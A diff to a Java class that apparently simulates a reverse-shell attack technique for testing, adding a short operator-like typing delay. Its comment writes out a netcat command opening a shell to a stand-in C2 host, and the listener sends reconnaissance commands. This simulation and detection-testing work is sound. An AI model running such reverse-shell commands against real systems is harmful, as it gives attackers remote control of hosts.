@@ -11,13 +11,15 @@ import java.util.concurrent.CompletableFuture;
 /**
  * {@code reverse-shell}: a listener on {@code c2.evil.example:4444} (203.0.113.66, played by this
  * scenario) and, in the source container, busybox {@code nc c2.evil.example 4444 -e /bin/sh}: a
- * shell whose standard input and output are the TCP connection. The listener types commands and
- * reads their output. The effect: the listener received the shell's output, with the pod's
+ * shell whose standard input and output are the TCP connection. The listener, after a pause as an
+ * operator's would be ({@link #TYPING_DELAY}), types commands and reads their output. The effect: the listener received the shell's output, with the pod's
  * hostname, from the pod's own address.
  */
 final class ReverseShell implements Technique {
 
     static final int PORT = 4444;
+    /** How long the listener waits after the connection before it types. */
+    static final Duration TYPING_DELAY = Duration.ofMillis(300);
     /** What the listener types into the shell. */
     static final String COMMANDS = "id; hostname; pwd; exit\n";
     /** Longest wait for the shell to call back and to answer. */
@@ -38,6 +40,8 @@ final class ReverseShell implements Technique {
         try (Socket s = listener.accept()) {
             s.setSoTimeout((int) WAIT.toMillis());
             peer = s.getInetAddress().getHostAddress();
+            // An operator looks at the connection before typing; the shell waits on its socket meanwhile.
+            Thread.sleep(TYPING_DELAY.toMillis());
             OutputStream out = s.getOutputStream();
             out.write(COMMANDS.getBytes(StandardCharsets.UTF_8));
             out.flush();
